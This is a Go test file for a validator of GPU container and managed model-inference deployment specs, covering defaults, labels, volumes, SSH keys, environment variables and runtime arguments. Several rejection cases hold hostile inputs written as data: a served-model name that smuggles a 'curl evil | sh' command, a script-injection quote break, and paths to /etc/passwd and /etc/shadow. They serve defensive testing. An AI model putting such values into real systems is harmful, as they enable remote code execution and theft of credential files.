package cosmic

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// sshKey builds an authorized_keys line whose blob embeds typ, as real keys do.
func sshKey(typ string) string {
	blob := binary.BigEndian.AppendUint32(nil, uint32(len(typ)))
	blob = append(blob, typ...)
	blob = binary.BigEndian.AppendUint32(blob, 32)
	blob = append(blob, make([]byte, 32)...)
	return typ + " " + base64.StdEncoding.EncodeToString(blob) + " alice@laptop"
}

func containerSpec() Spec {
	s := Spec{
		Type:     TypeGPUContainer,
		Name:     "train-1",
		Labels:   map[string]string{"team": "ml", "example.com/tier": "gold"},
		Location: "us",
		Image:    "docker.io/library/ubuntu:24.04",
		Command:  []string{"python", "train.py"},
		EnvVars:  []EnvVar{{Name: "EPOCHS", Value: "3"}},
		Resources: Resources{
			GPU:      8,
			GPUModel: "GH100_H100_SXM5_80GB",
		},
		SSHPublicKeys:   []string{sshKey("ssh-ed25519")},
		DefaultHTTPPort: 8080,
		Timeout:         3600,
	}
	s.Default()
	return s
}

func inferenceSpec() Spec {
	s := Spec{
		Type:     TypeManagedInference,
		Location: "us",
		Inference: &InferenceSpec{
			Runtime:        RuntimeVLLM,
			Model:          "Qwen/Qwen3-32B",
			Replicas:       2,
			GPUsPerReplica: 2,
			Args:           map[string]string{"max-model-len": "32768", "dtype": "bfloat16"},
		},
	}
	s.Default()
	return s
}

func boolp(b bool) *bool { return &b }

func TestDefault(t *testing.T) {
	tests := []struct {
		name string
		in   Spec
		want Spec
	}{
		{
			name: "container",
			in:   Spec{Type: TypeGPUContainer, Location: "us", Image: "img"},
			want: Spec{Type: TypeGPUContainer, Location: "us", Image: "img", DiskGB: 100,
				Resources: Resources{GPU: 1, CPU: 8, Memory: 64}},
		},
		{
			name: "container keeps set values",
			in: Spec{Type: TypeGPUContainer, DiskGB: 10,
				Resources: Resources{GPU: 4, CPU: 2, Memory: 3}},
			want: Spec{Type: TypeGPUContainer, DiskGB: 10,
				Resources: Resources{GPU: 4, CPU: 2, Memory: 3}},
		},
		{
			name: "container keeps negative values for Validate",
			in:   Spec{Type: TypeGPUContainer, DiskGB: -1, Resources: Resources{GPU: -2}},
			want: Spec{Type: TypeGPUContainer, DiskGB: -1, Resources: Resources{GPU: -2}},
		},
		{
			name: "vllm from resources.gpu",
			in: Spec{Type: TypeManagedInference, Resources: Resources{GPU: 4},
				Inference: &InferenceSpec{Model: "Qwen/Qwen3-32B"}},
			want: Spec{Type: TypeManagedInference, DiskGB: 200, Resources: Resources{GPU: 4, CPU: 32, Memory: 256},
				Inference: &InferenceSpec{Runtime: RuntimeVLLM, Model: "Qwen/Qwen3-32B", ServedModelName: "Qwen/Qwen3-32B",
					Replicas: 1, GPUsPerReplica: 4, RequireAuth: boolp(true), Routing: DefaultRouting}},
		},
		{
			name: "vllm from gpusPerReplica",
			in: Spec{Type: TypeManagedInference,
				Inference: &InferenceSpec{Model: "m", GPUsPerReplica: 16, Replicas: 3, RequireAuth: boolp(false), ServedModelName: "x", Routing: RoutingLeastOutstanding}},
			want: Spec{Type: TypeManagedInference, DiskGB: 200, Resources: Resources{GPU: 16, CPU: 128, Memory: 1024},
				Inference: &InferenceSpec{Runtime: RuntimeVLLM, Model: "m", ServedModelName: "x",
					Replicas: 3, GPUsPerReplica: 16, RequireAuth: boolp(false), Routing: RoutingLeastOutstanding}},
		},
		{
			name: "parakeet by runtime",
			in:   Spec{Type: TypeManagedInference, Inference: &InferenceSpec{Runtime: RuntimeParakeet}},
			want: Spec{Type: TypeManagedInference, DiskGB: 200, Resources: Resources{GPU: 1, CPU: 8, Memory: 64},
				Inference: &InferenceSpec{Runtime: RuntimeParakeet, Model: ParakeetModel, ServedModelName: ParakeetModel,
					Replicas: 1, GPUsPerReplica: 1, RequireAuth: boolp(true), Routing: DefaultRouting}},
		},
		{
			name: "parakeet by model",
			in:   Spec{Type: TypeManagedInference, Inference: &InferenceSpec{Model: ParakeetModel}},
			want: Spec{Type: TypeManagedInference, DiskGB: 200, Resources: Resources{GPU: 1, CPU: 8, Memory: 64},
				Inference: &InferenceSpec{Runtime: RuntimeParakeet, Model: ParakeetModel, ServedModelName: ParakeetModel,
					Replicas: 1, GPUsPerReplica: 1, RequireAuth: boolp(true), Routing: DefaultRouting}},
		},
		{
			name: "inference without inference section",
			in:   Spec{Type: TypeManagedInference},
			want: Spec{Type: TypeManagedInference, DiskGB: 200, Resources: Resources{GPU: 1, CPU: 8, Memory: 64}},
		},
		{
			name: "unknown type untouched",
			in:   Spec{Type: "batch"},
			want: Spec{Type: "batch"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := tt.in
			got.Default()
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Default() mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestSpecCounts(t *testing.T) {
	c := containerSpec()
	if c.Replicas() != 1 || c.GPUsPerReplica() != 8 || c.TotalGPUs() != 8 || c.MultiNode() {
		t.Errorf("container: replicas %d, per replica %d, total %d, multi %v", c.Replicas(), c.GPUsPerReplica(), c.TotalGPUs(), c.MultiNode())
	}
	i := inferenceSpec()
	if i.Replicas() != 2 || i.GPUsPerReplica() != 2 || i.TotalGPUs() != 4 || !i.MultiNode() {
		t.Errorf("inference: replicas %d, per replica %d, total %d, multi %v", i.Replicas(), i.GPUsPerReplica(), i.TotalGPUs(), i.MultiNode())
	}
}

func TestValidateValid(t *testing.T) {
	for name, s := range map[string]Spec{
		"container": containerSpec(),
		"inference": inferenceSpec(),
		"parakeet": func() Spec {
			s := Spec{Type: TypeManagedInference, Location: "eu-west", Inference: &InferenceSpec{Runtime: RuntimeParakeet}}
			s.Default()
			return s
		}(),
		"every key type": func() Spec {
			s := containerSpec()
			s.SSHPublicKeys = nil
			for _, typ := range sshKeyTypes {
				s.SSHPublicKeys = append(s.SSHPublicKeys, sshKey(typ))
			}
			return s
		}(),
		"volumes": func() Spec {
			s := containerSpec()
			s.Volumes = []Volume{
				{Name: "data", MountPath: "/data", Permission: "rw", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "s3", Container: "bucket"}}},
				{MountPath: "/src", Source: VolumeSource{PublicGit: &PublicGitSource{URL: "https://github.com/x/y.git"}}},
				{MountPath: "/scratch", Permission: "rw", Source: VolumeSource{Standalone: &StandaloneSource{Name: "scratch"}}},
				{MountPath: "/out", Permission: "RW", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "s3", Container: "my.bucket-1", Prefix: "runs/a", Archive: "tar.gz"}},
					Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "archive", Container: "results"}}},
			}
			return s
		}(),
		"every allowed arg": func() Spec {
			s := inferenceSpec()
			s.Inference.Args = map[string]string{
				"block-size": "16", "dtype": "auto", "enable-auto-tool-choice": "true", "enable-chunked-prefill": "false",
				"enable-prefix-caching": "true", "enforce-eager": "false", "gpu-memory-utilization": "0.9",
				"kv-cache-dtype": "fp8", "max-model-len": "8192", "max-num-batched-tokens": "4096", "max-num-seqs": "256",
				"quantization": "awq", "reasoning-parser": "deepseek_r1", "revision": "main", "seed": "0", "runner": "pooling", "convert": "embed",
				"tokenizer": "Qwen/Qwen3-32B", "tool-call-parser": "hermes", "trust-remote-code": "true",
			}
			return s
		}(),
	} {
		t.Run(name, func(t *testing.T) {
			if err := s.Validate(); err != nil {
				t.Errorf("Validate() = %v, want nil", err)
			}
		})
	}
	if len(VLLMArgs) != 20 {
		t.Errorf("VLLMArgs has %d entries; update the test above with the new ones", len(VLLMArgs))
	}
}

func TestValidateRules(t *testing.T) {
	tests := []struct {
		name   string
		base   func() Spec
		mutate func(*Spec)
		want   []string // fields with a problem, in order
	}{
		{"type missing", containerSpec, func(s *Spec) { s.Type = "" }, []string{"type"}},
		{"type unknown", containerSpec, func(s *Spec) { s.Type = "batch" }, []string{"type"}},
		// Nothing that depends on the type is told with it: not the
		// inference section's, nor defaults a known type would have filled.
		{"type unknown, an inference section", inferenceSpec, func(s *Spec) { s.Type = "managed"; s.DiskGB = 0 }, []string{"type"}},
		{"type unknown, no image nor GPU", containerSpec, func(s *Spec) { s.Type = "managed"; s.Image = ""; s.Resources.GPU = 0 }, []string{"type"}},
		{"name too long", containerSpec, func(s *Spec) { s.Name = strings.Repeat("n", 65) }, []string{"name"}},
		{"name 64 runes ok", containerSpec, func(s *Spec) { s.Name = strings.Repeat("é", 64) }, nil},
		{"name control char", containerSpec, func(s *Spec) { s.Name = "a\nb" }, []string{"name"}},
		{"label key bad", containerSpec, func(s *Spec) { s.Labels = map[string]string{"-bad": "v"} }, []string{"labels.-bad"}},
		{"label key too long", containerSpec, func(s *Spec) { s.Labels = map[string]string{strings.Repeat("k", 64): "v"} }, []string{"labels." + strings.Repeat("k", 64)}},
		{"label prefix bad", containerSpec, func(s *Spec) { s.Labels = map[string]string{"Ex_ample/k": "v"} }, []string{"labels.Ex_ample/k"}},
		{"label reserved", containerSpec, func(s *Spec) { s.Labels = map[string]string{"cosmicac/rack": "r1"} }, []string{"labels.cosmicac/rack"}},
		{"label value bad", containerSpec, func(s *Spec) { s.Labels = map[string]string{"k": "a b"} }, []string{"labels.k"}},
		{"label value empty ok", containerSpec, func(s *Spec) { s.Labels = map[string]string{"k": ""} }, nil},
		{"label key and value bad", containerSpec, func(s *Spec) { s.Labels = map[string]string{"k k": "v v"} }, []string{"labels.k k", "labels.k k"}},
		{"too many labels", containerSpec, func(s *Spec) {
			s.Labels = map[string]string{}
			for i := range 65 {
				s.Labels["k"+strconv.Itoa(i)] = ""
			}
		}, []string{"labels"}},
		{"location missing", containerSpec, func(s *Spec) { s.Location = "" }, []string{"location"}},
		{"archive volumes ok", containerSpec, func(s *Spec) {
			s.Volumes = []Volume{
				{MountPath: "/a", Permission: "RW", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "a.tar.gz", Archive: "tar.gz"}}},
				{MountPath: "/b", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "b.tar.bz2", Archive: "tar.bz2"}}},
				{MountPath: "/c", Permission: "RW", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "c.tar.bz2", Archive: "tar.bz2"}},
					Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "c.zip", Archive: "zip"}}},
			}
		}, nil},
		{"archive volumes refused", containerSpec, func(s *Spec) {
			s.Volumes = []Volume{
				{MountPath: "/a", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Archive: "zip"}}},
				{MountPath: "/b", Permission: "RWD", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "b.zip", Archive: "zip"}}},
				{MountPath: "/c", Permission: "RW", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "c.tar.bz2", Archive: "tar.bz2"}}},
				{MountPath: "/d", Permission: "RW", Source: VolumeSource{DataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "d"}},
					Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "m", Container: "bucket", Prefix: "d.tar.bz2", Archive: "tar.bz2"}}},
			}
		}, []string{"volumes[0].volumeSource.dataStore.prefix", "volumes[1].permission", "volumes[2].volumeSource.dataStore.archive", "volumes[3].volumeTarget.targetDataStore.archive"}},
		{"model source ok", inferenceSpec, func(s *Spec) {
			s.Inference.ModelSource = &DataStoreSource{Alias: "main", Container: "models", Prefix: "qwen"}
		}, nil},
		{"model source without prefix nor bucket", inferenceSpec, func(s *Spec) {
			s.Inference.ModelSource = &DataStoreSource{Alias: "main"}
		}, []string{"inference.modelSource.container", "inference.modelSource.prefix"}},
		{"model source archived", inferenceSpec, func(s *Spec) {
			s.Inference.ModelSource = &DataStoreSource{Alias: "main", Container: "models", Prefix: "q", Archive: "zip"}
		}, []string{"inference.modelSource.archive"}},
		{"model source for parakeet", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Inference.Args = RuntimeParakeet, ParakeetModel, 1, nil
			s.Resources.GPU = 1
			s.Inference.ModelSource = &DataStoreSource{Alias: "main", Container: "models", Prefix: "q"}
		}, []string{"inference.modelSource"}},
		{"standalone volume for a model", inferenceSpec, func(s *Spec) {
			s.Volumes = []Volume{{MountPath: "/scratch", Permission: "RW", Source: VolumeSource{Standalone: &StandaloneSource{Name: "scratch"}}}}
		}, []string{"volumes[0].volumeSource.standalone"}},
		{"standalone volume ok", containerSpec, func(s *Spec) {
			s.Volumes = []Volume{{MountPath: "/scratch", Permission: "RW", Source: VolumeSource{Standalone: &StandaloneSource{Name: "scratch"}}}}
		}, nil},
		{"location bad", containerSpec, func(s *Spec) { s.Location = "us east" }, []string{"location"}},
		{"image missing for container", containerSpec, func(s *Spec) { s.Image = "" }, []string{"image"}},
		{"image optional for inference", inferenceSpec, func(s *Spec) { s.Image = "" }, nil},
		{"image with space", inferenceSpec, func(s *Spec) { s.Image = "a b" }, []string{"image"}},
		{"disk negative", containerSpec, func(s *Spec) { s.DiskGB = -1 }, []string{"diskGB"}},
		{"disk zero", containerSpec, func(s *Spec) { s.DiskGB = 0 }, []string{"diskGB"}},
		{"disk huge", containerSpec, func(s *Spec) { s.DiskGB = MaxDiskGB + 1 }, []string{"diskGB"}},
		{"command for inference", inferenceSpec, func(s *Spec) { s.Command = []string{"x"} }, []string{"command"}},
		{"command NUL", containerSpec, func(s *Spec) { s.Command = []string{"ok", "a\x00b"} }, []string{"command[1]"}},
		{"command too long", containerSpec, func(s *Spec) { s.Command = []string{strings.Repeat("x", MaxCommandBytes+1)} }, []string{"command"}},
		{"env name bad", containerSpec, func(s *Spec) { s.EnvVars = []EnvVar{{Name: "1X"}, {Name: "A-B"}} }, []string{"envVars[0].name", "envVars[1].name"}},
		{"env name reserved", containerSpec, func(s *Spec) { s.EnvVars = []EnvVar{{Name: "COSMICAC_TOKEN"}} }, []string{"envVars[0].name"}},
		{"env name twice", containerSpec, func(s *Spec) { s.EnvVars = []EnvVar{{Name: "A"}, {Name: "A"}} }, []string{"envVars[1].name"}},
		{"env value NUL", containerSpec, func(s *Spec) { s.EnvVars = []EnvVar{{Name: "A", Value: "\x00"}} }, []string{"envVars[0].value"}},
		{"too many env", containerSpec, func(s *Spec) {
			s.EnvVars = nil
			for i := range MaxEnvVars + 1 {
				s.EnvVars = append(s.EnvVars, EnvVar{Name: "V" + strings.Repeat("_", i)})
			}
		}, []string{"envVars"}},
		{"gpu zero", containerSpec, func(s *Spec) { s.Resources.GPU = 0 }, []string{"resources.gpu"}},
		{"gpu negative", containerSpec, func(s *Spec) { s.Resources.GPU = -1 }, []string{"resources.gpu"}},
		{"gpu too many", containerSpec, func(s *Spec) { s.Resources.GPU = MaxGPUs + 1 }, []string{"resources.gpu"}},
		{"gpu model bad", containerSpec, func(s *Spec) { s.Resources.GPUModel = "H100 80GB" }, []string{"resources.gpuModel"}},
		{"gpu brand", containerSpec, func(s *Spec) { s.Resources.GPUBrand = "amd" }, []string{"resources.gpuBrand"}},
		{"gpu brand nvidia ok", containerSpec, func(s *Spec) { s.Resources.GPUBrand = "NVIDIA" }, nil},
		{"negative resources", containerSpec, func(s *Spec) {
			s.Resources.GPUMemory, s.Resources.CPU, s.Resources.Memory, s.Resources.EphemeralStorage = -1, -1, -1, -1
			s.Resources.FlavorCount, s.Resources.PrivateNetwork, s.Resources.PublicNetwork = -1, -1, -1
		}, []string{"resources.gpuMemory", "resources.cpu", "resources.memory", "resources.ephemeralStorage",
			"resources.flavorCount", "resources.privateNetwork", "resources.publicNetwork"}},
		{"cpu huge", containerSpec, func(s *Spec) { s.Resources.CPU = MaxCPU + 1 }, []string{"resources.cpu"}},
		{"flavor bad", containerSpec, func(s *Spec) { s.Resources.Flavor = "a b" }, []string{"resources.flavor"}},
		{"ssh key not a key", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{"hello"} }, []string{"sshPublicKeys[0]"}},
		{"ssh key type", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{sshKey("ssh-dss")} }, []string{"sshPublicKeys[0]"}},
		{"ssh key not base64", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{"ssh-ed25519 !!!!"} }, []string{"sshPublicKeys[0]"}},
		{"ssh key type mismatch", containerSpec, func(s *Spec) {
			s.SSHPublicKeys = []string{"ssh-rsa" + strings.TrimPrefix(sshKey("ssh-ed25519"), "ssh-ed25519")}
		}, []string{"sshPublicKeys[0]"}},
		{"ssh key short blob", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{"ssh-rsa AAAA"} }, []string{"sshPublicKeys[0]"}},
		{"ssh key length lies", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{"ssh-rsa AAAA/w=="} }, []string{"sshPublicKeys[0]"}},
		{"ssh key newline", containerSpec, func(s *Spec) { s.SSHPublicKeys = []string{sshKey("ssh-rsa") + "\nssh-rsa x"} }, []string{"sshPublicKeys[0]"}},
		{"ports", containerSpec, func(s *Spec) { s.DefaultHTTPPort, s.GRPCPort = 65536, -1 }, []string{"defaultHttpPort", "grpcPort"}},
		{"same ports", containerSpec, func(s *Spec) { s.DefaultHTTPPort, s.GRPCPort = 80, 80 }, []string{"grpcPort"}},
		{"timeout negative", containerSpec, func(s *Spec) { s.Timeout = -1 }, []string{"timeout"}},
		{"auto restart without timeout", containerSpec, func(s *Spec) { s.Timeout, s.TimeoutAutoRestart = 0, true }, []string{"timeoutAutoRestart"}},
		{"volume problems", containerSpec, func(s *Spec) {
			s.Volumes = []Volume{
				{Name: "a", MountPath: "data", Permission: "x", Source: VolumeSource{}},
				{Name: "a", MountPath: "/d/../e", Source: VolumeSource{DataStore: &DataStoreSource{}}},
				{MountPath: "/", Source: VolumeSource{PublicGit: &PublicGitSource{URL: "ssh://x"}, Standalone: &StandaloneSource{Name: "-"}}},
				{MountPath: "/x", Source: VolumeSource{Standalone: &StandaloneSource{Name: "s"}}},
				{MountPath: "/x", Name: "b c", Source: VolumeSource{Standalone: &StandaloneSource{Name: "s"}}},
			}
		}, []string{
			"volumes[0].mountPath", "volumes[0].permission", "volumes[0].volumeSource",
			"volumes[1].name", "volumes[1].mountPath", "volumes[1].volumeSource.dataStore.alias", "volumes[1].volumeSource.dataStore.container",
			"volumes[2].mountPath", "volumes[2].volumeSource.publicGit.url", "volumes[2].volumeSource.standalone.name", "volumes[2].volumeSource",
			"volumes[4].name", "volumes[4].mountPath", "volumes[4].volumeSource.standalone.name",
		}},
		{"volume sources", containerSpec, func(s *Spec) {
			ds := func(alias, container, prefix, archive string) VolumeSource {
				return VolumeSource{DataStore: &DataStoreSource{Alias: alias, Container: container, Prefix: prefix, Archive: archive}}
			}
			s.Volumes = []Volume{
				{MountPath: "/a", Source: ds("Main", "Bucket", "/abs", "rar")},
				{MountPath: "/b", Source: ds("main", "b", "x/../y", "")},
				{MountPath: "/c", Source: ds("main", "-bucket", "x//y", "")},
				{MountPath: "/d", Permission: "rw", Source: VolumeSource{PublicGit: &PublicGitSource{URL: "https://g"}}},
				{MountPath: "/e", Permission: "rwd", Cache: true, Source: VolumeSource{Standalone: &StandaloneSource{Name: "s"}}},
				{MountPath: "/f", Source: ds("main", "bkt", "", ""), Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "m", Container: "bkt"}}},
				{MountPath: "/g", Permission: "RW", Source: ds("main", "bkt", "", ""), Target: &VolumeTarget{}},
				{MountPath: "/g/h", Permission: "RW", Source: ds("main", "bkt", "", ""), Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "m"}}},
				{MountPath: "/i", Permission: "RWD", Source: ds("main", "bkt", "", ""), Target: &VolumeTarget{TargetDataStore: &DataStoreSource{Alias: "m", Container: "res"}}},
			}
		}, []string{
			"volumes[0].volumeSource.dataStore.alias", "volumes[0].volumeSource.dataStore.container", "volumes[0].volumeSource.dataStore.prefix", "volumes[0].volumeSource.dataStore.archive",
			"volumes[1].volumeSource.dataStore.container", "volumes[1].volumeSource.dataStore.prefix",
			"volumes[2].volumeSource.dataStore.container", "volumes[2].volumeSource.dataStore.prefix",
			"volumes[3].permission",
			"volumes[4].permission", "volumes[4].cache",
			"volumes[5].volumeTarget",
			"volumes[6].volumeTarget",
			"volumes[7].mountPath", "volumes[7].volumeTarget.targetDataStore.container",
			"volumes[8].volumeTarget",
		}},
		{"read user and partner", containerSpec, func(s *Spec) { s.ReadUser, s.PartnerID = "a\tb", strings.Repeat("p", 129) }, []string{"readUser", "partnerId"}},
		{"inference missing", inferenceSpec, func(s *Spec) { s.Inference = nil }, []string{"inference"}},
		{"inference on container", containerSpec, func(s *Spec) { s.Inference = &InferenceSpec{} }, []string{"inference"}},
		{"runtime missing", inferenceSpec, func(s *Spec) { s.Inference.Runtime = "" }, []string{"inference.runtime"}},
		{"runtime unknown", inferenceSpec, func(s *Spec) { s.Inference.Runtime = "tgi" }, []string{"inference.runtime"}},
		{"model missing", inferenceSpec, func(s *Spec) { s.Inference.Model = "" }, []string{"inference.model"}},
		{"model bad", inferenceSpec, func(s *Spec) { s.Inference.Model = "a/b/c" }, []string{"inference.model"}},
		{"adapter name with a colon", inferenceSpec, func(s *Spec) {
			s.Inference.Adapters = []Adapter{{Name: "a:b", Source: "acme/lora"}}
		}, []string{"inference.adapters[0].name"}},
		{"adapter named twice, a source not a model", inferenceSpec, func(s *Spec) {
			s.Inference.Adapters = []Adapter{{Name: "a", Source: "acme/lora"}, {Name: "a", Source: "../../etc/passwd"}}
		}, []string{"inference.adapters[1].name", "inference.adapters[1].source"}},
		{"adapters on parakeet", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.Args = RuntimeParakeet, ParakeetModel, nil
			s.Inference.GPUsPerReplica, s.Resources.GPU = 1, 1
			s.Inference.Adapters = []Adapter{{Name: "a", Source: "acme/lora"}}
		}, []string{"inference.adapters"}},
		{"routing unknown", inferenceSpec, func(s *Spec) { s.Inference.Routing = "round-robin" }, []string{"inference.routing"}},
		{"served name bad", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "my model" }, []string{"inference.servedModelName"}},
		{"served name runs code in a snippet", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "x';curl${IFS}evil|sh;'" }, []string{"inference.servedModelName"}},
		{"served name quotes", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = `a"+alert(1)+"` }, []string{"inference.servedModelName"}},
		{"served name reads as another team's", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = "@ml/Qwen3-8B" }, []string{"inference.servedModelName"}},
		{"served name too long", inferenceSpec, func(s *Spec) { s.Inference.ServedModelName = strings.Repeat("a", MaxServedModelName+1) }, []string{"inference.servedModelName"}},
		{"replicas bad", inferenceSpec, func(s *Spec) { s.Inference.Replicas = -1 }, []string{"inference.replicas"}},
		{"replicas too many", inferenceSpec, func(s *Spec) { s.Inference.Replicas = MaxReplicas + 1 }, []string{"inference.replicas"}},
		{"total gpus too many", inferenceSpec, func(s *Spec) {
			s.Inference.Replicas, s.Inference.GPUsPerReplica, s.Resources.GPU = 128, 16, 16
		}, []string{"inference.replicas"}},
		{"gpus per replica bad", inferenceSpec, func(s *Spec) { s.Inference.GPUsPerReplica = 0 }, []string{"inference.gpusPerReplica"}},
		{"gpu disagrees", inferenceSpec, func(s *Spec) { s.Resources.GPU = 3 }, []string{"resources.gpu"}},
		{"parakeet other model", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Args = RuntimeParakeet, nil
		}, []string{"inference.model", "inference.gpusPerReplica"}},
		{"parakeet args", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU = RuntimeParakeet, ParakeetModel, 1, 1
		}, []string{"inference.args"}},
		{"parakeet NGC key and NIM variables", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU, s.Inference.Args = RuntimeParakeet, ParakeetModel, 1, 1, nil
			s.EnvVars = []EnvVar{{Name: "LANG", Value: "C"}, {Name: "NGC_API_KEY", Value: "nvapi-x"}, {Name: "NIM_HTTP_API_PORT", Value: "9000"}}
		}, []string{"envVars[1].name", "envVars[2].name"}},
		{"vllm args", inferenceSpec, func(s *Spec) {
			s.Inference.Args = map[string]string{
				"tensor-parallel-size": "2", "pipeline-parallel-size": "2", "port": "1", "unknown": "x",
				"max-model-len": "0", "dtype": "int4", "quantization": "q", "gpu-memory-utilization": "1.5",
				"max-num-seqs": "x", "enable-prefix-caching": "yes", "trust-remote-code": "1", "block-size": "7",
				"kv-cache-dtype": "int8", "seed": "-1", "tool-call-parser": "A B", "tokenizer": "a/b/c", "revision": " x",
			}
		}, []string{
			"inference.args.block-size", "inference.args.dtype", "inference.args.enable-prefix-caching",
			"inference.args.gpu-memory-utilization", "inference.args.kv-cache-dtype", "inference.args.max-model-len",
			"inference.args.max-num-seqs", "inference.args.pipeline-parallel-size", "inference.args.port",
			"inference.args.quantization", "inference.args.revision", "inference.args.seed",
			"inference.args.tensor-parallel-size", "inference.args.tokenizer", "inference.args.tool-call-parser",
			"inference.args.trust-remote-code", "inference.args.unknown",
		}},
		{"vllm swap-space (removed from vllm serve)", inferenceSpec, func(s *Spec) { s.Inference.Args = map[string]string{"swap-space": "4"} }, []string{"inference.args.swap-space"}},
		{"vllm gguf (a plugin since 0.24)", inferenceSpec, func(s *Spec) { s.Inference.Args = map[string]string{"quantization": "gguf"} }, []string{"inference.args.quantization"}},
		{"vllm disable-frontend-multiprocessing (removed in 0.19)", inferenceSpec, func(s *Spec) {
			s.Inference.Args = map[string]string{"disable-frontend-multiprocessing": "true"}
		}, []string{"inference.args.disable-frontend-multiprocessing"}},
		{"gpu memory utilization NaN", inferenceSpec, func(s *Spec) { s.Inference.Args = map[string]string{"gpu-memory-utilization": "NaN"} }, []string{"inference.args.gpu-memory-utilization"}},
		{"llama.cpp good", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU = RuntimeLlamaCPP, "cosmicac/test-chat", 1, 1
			s.Inference.Args = map[string]string{"ctx-size": "2048", "parallel": "4", "n-predict": "-1", "embeddings": "false", "cont-batching": "false", "pooling": "mean", "flash-attn": "auto"}
		}, nil},
		{"llama.cpp variables are not its flags", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU, s.Inference.Args = RuntimeLlamaCPP, "cosmicac/test-chat", 1, 1, nil
			s.EnvVars = []EnvVar{{Name: "LANG", Value: "C"}, {Name: "LLAMA_ARG_HOST", Value: "0.0.0.0"}, {Name: "llama_arg_model", Value: "/etc/shadow"}}
		}, []string{"envVars[1].name", "envVars[2].name"}},
		{"llama.cpp model is no path", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU, s.Inference.Args = RuntimeLlamaCPP, "/etc/shadow", 1, 1, nil
		}, []string{"inference.model"}},
		{"llama.cpp model leaves no directory", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model, s.Inference.GPUsPerReplica, s.Resources.GPU, s.Inference.Args = RuntimeLlamaCPP, "../models", 1, 1, nil
		}, []string{"inference.model"}},
		{"llama.cpp one gpu, its own args", inferenceSpec, func(s *Spec) {
			s.Inference.Runtime, s.Inference.Model = RuntimeLlamaCPP, "cosmicac/test-chat"
			s.Inference.Args = map[string]string{"ctx-size": "-1", "parallel": "0", "pooling": "max", "jinja": "yes", "port": "1", "max-model-len": "8", "threads": "99999999999"}
		}, []string{"inference.gpusPerReplica", "inference.args.ctx-size", "inference.args.jinja", "inference.args.max-model-len",
			"inference.args.parallel", "inference.args.pooling", "inference.args.port", "inference.args.threads"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := tt.base()
			tt.mutate(&s)
			err := s.Validate()
			var got []string
			for _, fe := range FieldErrors(err) {
				got = append(got, fe.Field)
				if fe.Message == "" {
					t.Errorf("field %s has an empty message", fe.Field)
				}
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Validate() fields mismatch (-want +got):\n%s\nerror: %v", diff, err)
			}
			if (err != nil) != errors.Is(err, ErrInvalid) {
				t.Errorf("errors.Is(%v, ErrInvalid) = %v", err, errors.Is(err, ErrInvalid))
			}
		})
	}
}

func TestValidateReportsEveryProblem(t *testing.T) {
	s := Spec{
		Type:          "batch",
		Location:      "",
		DiskGB:        -5,
		Resources:     Resources{GPU: -1, CPU: -2},
		SSHPublicKeys: []string{"nope"},
		Timeout:       -1,
		Labels:        map[string]string{"cosmicac/x": "y"},
	}
	err := s.Validate()
	var got []string
	for _, fe := range FieldErrors(err) {
		got = append(got, fe.Field)
	}
	want := []string{"type", "labels.cosmicac/x", "location", "diskGB", "resources.gpu", "resources.cpu", "sshPublicKeys[0]", "timeout"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
	if !strings.Contains(err.Error(), "resources.gpu: must not be negative") {
		t.Errorf("error text %q lacks the gpu problem", err)
	}
}

func TestFieldErrorsWrapped(t *testing.T) {
	inner := errors.Join(&FieldError{Field: "a", Message: "x"}, errors.New("other"), &FieldError{Field: "b", Message: "y"})
	err := errors.Join(wrapf(inner), &FieldError{Field: "c", Message: "z"})
	var got []string
	for _, fe := range FieldErrors(err) {
		got = append(got, fe.Field)
	}
